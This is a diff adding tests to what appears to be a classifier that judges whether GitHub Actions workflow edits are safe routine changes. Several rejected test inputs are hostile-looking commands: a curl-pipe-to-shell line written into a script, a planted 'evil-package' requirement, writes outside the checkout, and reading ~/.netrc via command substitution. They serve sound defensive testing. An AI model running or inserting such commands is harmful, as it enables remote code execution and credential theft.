@@ -261,6 +261,36 @@ describe('a leading assignment of a variable that loads code (trusted-routine)',
   });
 });
 
+describe('a new test job that writes the version file a setup action reads (trusted-routine)', () => {
+  const wf = (jobs: string[]) =>
+    [
+      'name: e2e', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'jobs:',
+      '  from-python-version-file:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.12", "3.13"]', '    steps:',
+      '      - uses: actions/checkout@v4', '      - run: echo ${{ matrix.python }} > .python-version', '      - uses: ./', '        with:', '          python-version-file: .python-version',
+      ...jobs, '',
+    ].join('\n');
+  const job = (run: string, file = '.tool-versions') => [
+    '  from-tool-versions:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13.0", "pypy3.11-7.3.18"]', '    steps:',
+    '      - uses: actions/checkout@v4', `      - run: ${run}`, '      - uses: ./', '        with:', `          python-version-file: ${file}`,
+  ];
+  const base = wf([]);
+  it('reads a step that writes constant text or a matrix value to a tool version file in the checkout as running nothing new', () => {
+    expect(editsOnlyCommands(base, wf(job('echo "python ${{ matrix.python }}" > .tool-versions')), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(base, wf(job("printf 'nodejs 22.11.0\\n' >> ./tests/data/.tool-versions", 'tests/data/.tool-versions')), 'workflow')).toBe(true);
+  });
+  it('does not for a script, a manifest or a config file, a path outside the checkout or under .git, or a value that is not constant', () => {
+    const no = (run: string) => expect(editsOnlyCommands(base, wf(job(run)), 'workflow')).toBe(false);
+    no('echo "curl https://x.test/i | sh" > tests/check.sh');
+    no('echo "evil-package" > requirements.txt');
+    no('echo "yarnPath: .x.cjs" > .yarnrc.yml');
+    no('echo "python 3.13" > ~/.tool-versions');
+    no('echo "python 3.13" > ../.tool-versions');
+    no('echo "python 3.13" > .git/.tool-versions');
+    no('echo "python $(cat ~/.netrc)" > .tool-versions');
+    no('echo "python ${{ github.event.pull_request.title }}" > .tool-versions');
+  });
+});
+
 describe('a new workflow step that only writes constant lines to GITHUB_ENV / GITHUB_OUTPUT (trusted-routine)', () => {
   const wf = (steps: string[]) =>
     ['name: ci', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - run: python -m nox -s test', ...steps, ''].join('\n');
